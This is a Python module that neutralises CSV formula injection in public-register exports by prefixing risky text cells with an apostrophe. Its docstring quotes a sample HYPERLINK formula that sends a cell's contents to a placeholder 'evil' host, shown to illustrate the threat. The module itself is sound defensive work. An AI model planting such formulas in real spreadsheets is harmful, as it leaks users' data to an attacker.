"""Spreadsheet-safe exports: text that a spreadsheet would run as a formula is neutralised.

Public registers and open data carry text that citizens and officers typed. Opened in Excel or
LibreOffice, a cell such as ``=HYPERLINK("http://evil/?"&A1,"klik")`` becomes a live formula
(CSV injection, OWASP). Every text cell starting with ``= + - @``, a tab or a carriage return is
prefixed with an apostrophe, which spreadsheets show as text. Values typed as numbers (and text
that is exactly a decimal number, such as ``-2.5``) stay numbers, so sums still work.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise_formula(value: Any) -> Any:
    """The value, with text that would start a formula turned into plain text."""
    if not isinstance(value, str) or not value.startswith(FORMULA_PREFIXES):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


class SafeCsvWriter:
    """`csv.writer` whose rows pass through `neutralise_formula`."""

    def __init__(self, stream: Any, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise_formula(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_csv_writer(stream: Any, **options: Any) -> SafeCsvWriter:
    return SafeCsvWriter(stream, **options)
